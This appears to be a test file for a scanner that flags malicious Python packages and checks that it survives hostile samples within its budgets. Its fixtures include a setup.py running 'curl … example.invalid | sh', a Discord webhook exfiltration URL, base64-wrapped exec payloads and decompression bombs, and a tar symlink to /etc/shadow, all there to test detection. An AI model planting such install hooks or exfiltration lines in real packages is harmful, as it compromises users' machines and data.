"""Hostile samples end in a verdict within the budget, and say which budget ended the scan.

No timed assertions: a budget that runs out is reported in ``reason``, which is what is checked.
"""

from __future__ import annotations

import base64
import gzip
import io
import tarfile
import zlib

from bastion.core.scanning import Budget, scan

from .support import rules_of, sdist


def test_a_deeply_nested_expression_is_a_verdict_not_a_crash(tmp_path):
    deep = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"          # beyond the parser's nesting
    chain = "y = " + " + ".join(["'a'"] * 50_000) + "\nexec(y)\n"  # a 50,000-deep BinOp tree
    result = scan(sdist(tmp_path, {"demo/deep.py": deep, "demo/chain.py": chain,
                                   "demo/plain.py": "def f(s):\n    exec(s)\n"}))
    assert result.verdict in ("clean", "suspicious", "malicious")
    assert "exec-dynamic" in rules_of(result)   # the files after them are still analysed


def test_a_huge_syntax_tree_stops_at_the_node_budget(tmp_path):
    source = "import subprocess\n" + "".join(f"v{i} = subprocess.call\n" for i in range(5000))
    result = scan(sdist(tmp_path, {"demo/big.py": source}), budget=Budget(max_nodes=2000))
    assert result.verdict == "clean"
    assert "syntax nodes" in result.reason


def test_invalid_encodings_and_null_bytes_are_read_as_far_as_they_go(tmp_path):
    garbage = b"\xff\xfe\x00\x00import os\x00\n\xc3\x28 exec(\xa0)\n" + bytes(range(256))
    result = scan(sdist(tmp_path, {"demo/bad.py": garbage, "setup.py": b"\x80\x81\x82 setup(\n"}))
    assert result.verdict == "clean"


def test_a_decompression_bomb_behind_base64_is_capped(tmp_path):
    bomb = base64.b64encode(zlib.compress(b"A" * (64 << 20), 9)).decode()
    source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{bomb}')))\n"
    result = scan(sdist(tmp_path, {"demo/core.py": source}))
    assert result.verdict == "malicious"
    assert "exec-decoded" in rules_of(result)
    assert "decode budget" in result.reason


def test_nested_encodings_stop_at_the_decode_depth(tmp_path):
    payload = "print('innermost, never run')\n"
    for _ in range(12):
        payload = f"import base64\nexec(base64.b64decode('{base64.b64encode(payload.encode()).decode()}'))\n"
    result = scan(sdist(tmp_path, {"demo/core.py": payload}), budget=Budget(max_decode_depth=3))
    assert result.verdict == "malicious"
    assert "decode depth" in result.reason


def test_a_hundred_thousand_tiny_files_stop_at_the_member_budget(tmp_path):
    # The same bytes tarfile's addfile() writes for empty members (a header each, then the
    # end-of-archive blocks), joined and compressed once: per-member writes took longer.
    headers = (tarfile.TarInfo(f"demo-1.0/m/f{i}.py").tobuf(
        tarfile.DEFAULT_FORMAT, "utf-8", "surrogateescape") for i in range(100_001))
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(gzip.compress(b"".join(headers) + b"\0" * 2 * tarfile.BLOCKSIZE,
                                   compresslevel=1))
    result = scan(str(path))
    assert result.verdict == "clean"
    assert "members" in result.reason


def test_a_spent_time_budget_still_gives_a_verdict(tmp_path):
    path = sdist(tmp_path, {"demo/core.py": "URL = 'https://discord.com/api/webhooks/1/x'\n"})
    result = scan(path, budget=Budget(archive_seconds=0.0))
    assert result.verdict in ("clean", "suspicious", "malicious")
    assert "time budget" in result.reason


def test_what_is_not_an_archive_is_an_error_with_its_reason(tmp_path):
    junk = tmp_path / "demo-1.0.tar.gz"
    junk.write_bytes(b"this is not an archive at all")
    truncated = tmp_path / "demo-2.0.tar.gz"
    good = sdist(tmp_path, {"demo/core.py": "x = 1\n" * 1000}, filename="demo-3.0.tar.gz")
    truncated.write_bytes(open(good, "rb").read()[:200])
    for path in (junk, truncated, tmp_path / "missing.whl"):
        result = scan(str(path))
        assert result.verdict == "error"
        assert result.reason


def test_a_wheel_named_as_an_sdist_is_read_as_the_zip_it_is(tmp_path):
    from .support import wheel

    path = wheel(tmp_path, {"demo/core.py": "URL = 'https://discord.com/api/webhooks/1/x'\n"},
                 filename="demo-1.0.tar.gz")
    assert "exfil-webhook" in rules_of(scan(path))


def test_a_temporary_file_is_read_as_the_distribution_it_is_named_for(tmp_path):
    from bastion.core.scanning.reading import open_sample
    from bastion.core.scanning.budget import Budget

    from .support import wheel

    path = wheel(tmp_path, {"demo/core.py": "URL = 'https://discord.com/api/webhooks/1/x'\n"},
                 filename="upload-proxy-x1.part")
    assert open_sample(path, Budget()).kind == "sdist"  # a zip named like nothing
    assert open_sample(path, Budget(), "demo-1.0-py3-none-any.whl").kind == "wheel"
    result = scan(path, name="demo-1.0-py3-none-any.whl")
    assert "exfil-webhook" in rules_of(result) and result.path == path


def test_a_directory_is_scanned_like_an_unpacked_sdist(tmp_path):
    (tmp_path / "demo").mkdir()
    (tmp_path / "setup.py").write_text("import os\nos.system('curl -s http://example.invalid | sh')\n")
    result = scan(str(tmp_path))
    assert result.verdict == "malicious"
    assert {"proc-shell-download", "install-code"} <= rules_of(result)


def test_bz2_sdists_and_eggs_are_read_too(tmp_path):
    import zipfile

    line = b"URL = 'https://discord.com/api/webhooks/1/x'\n"
    bz2_path = tmp_path / "demo-1.0.tar.bz2"
    with tarfile.open(bz2_path, "w:bz2") as archive:
        info = tarfile.TarInfo("demo-1.0/demo/core.py")
        info.size = len(line)
        archive.addfile(info, io.BytesIO(line))
    egg_path = tmp_path / "demo-1.0-py3.11.egg"
    with zipfile.ZipFile(egg_path, "w") as archive:
        archive.writestr("demo/core.py", line)
    for path in (bz2_path, egg_path):
        assert "exfil-webhook" in rules_of(scan(str(path)))


def test_links_in_a_tar_are_skipped_not_followed(tmp_path):
    path = tmp_path / "demo-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        link = tarfile.TarInfo("demo-1.0/setup.py")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/shadow"
        archive.addfile(link)
    result = scan(str(path))
    assert result.verdict == "clean" and not result.findings
